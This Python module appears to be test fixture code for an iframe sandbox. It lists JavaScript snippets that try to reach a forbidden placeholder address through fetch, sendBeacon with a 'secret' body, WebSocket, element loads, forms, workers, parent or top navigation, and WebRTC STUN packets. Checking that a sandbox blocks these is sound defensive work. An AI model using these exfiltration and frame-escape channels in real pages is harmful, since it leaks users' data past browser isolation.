"""Ways out of a frame, as code that is run inside: ``{to}`` is the address that must not be asked for."""

from __future__ import annotations


def _element(tag: str, about: str) -> str:
    return f"document.body.append(Object.assign(document.createElement('{tag}'), {{{about}}}));"


#: those that leave the frame where it is
STAYING = {
    "fetch": "fetch('{to}', {mode: 'no-cors'});",
    "xhr": "const r = new XMLHttpRequest(); r.open('GET', '{to}'); r.send();",
    "beacon": "navigator.sendBeacon('{to}', 'secret');",
    "keepalive": "fetch('{to}', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret'});",
    "websocket": "new WebSocket('{to}'.replace('http', 'ws'));",
    "event-source": "new EventSource('{to}');",
    "import": "import('{to}');",
    "image": "new Image().src = '{to}';",
    "audio": "new Audio('{to}').load();",
    "script": _element("script", "src: '{to}'"),
    "style": _element("link", "rel: 'stylesheet', href: '{to}'"),
    "prefetch": _element("link", "rel: 'prefetch', href: '{to}'"),
    "preload": _element("link", "rel: 'preload', as: 'image', href: '{to}'"),
    "icon": _element("img", "srcset: '{to} 1x'"),
    "frame": _element("iframe", "src: '{to}'"),
    "object": _element("object", "data: '{to}'"),
    "embed": _element("embed", "src: '{to}'"),
    "background": "document.body.style.backgroundImage = 'url({to})'; document.body.textContent = 'x';",
    "font": "new FontFace('f', 'url({to})').load();",
    "worker": (
        "const code = `fetch('{to}', {mode: 'no-cors'})`;"
        "new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));"
    ),
    "form": (
        "document.body.insertAdjacentHTML('beforeend',"
        ' \'<iframe name="there"></iframe><form action="{to}" target="there"></form>\');'
        "document.querySelector('form').submit();"
    ),
    "child": (
        "const inner = document.body.appendChild(document.createElement('iframe'));"
        "inner.contentWindow.fetch('{to}', {mode: 'no-cors'});"
    ),
}

#: those after which the page is somewhere else, or the frame by a form; a script inside could send its own
#: frame elsewhere, and what stops that is that no other script than ours runs inside
LEAVING = {
    "parent": "parent.location = '{to}';",
    "top": "top.location = '{to}';",
    "own-form": (
        "document.body.insertAdjacentHTML('beforeend', '<form action=\"{to}\"></form>');"
        "document.querySelector('form').submit();"
    ),
}

_STUN = (
    "const call = new {Peer}({iceServers: [{urls: 'stun:127.0.0.1:{port}'}]});"
    "call.createDataChannel('secret'); call.createOffer().then((offer) => call.setLocalDescription(offer));"
)
#: packets that no policy stops; ``{port}`` is where they must not go
PACKETS = {
    "stun": _STUN.replace("{Peer}", "RTCPeerConnection"),
    "stun of a child": (
        "const inner = document.body.appendChild(document.createElement('iframe'));"
        + _STUN.replace("{Peer}", "inner.contentWindow.RTCPeerConnection")
    ),
}
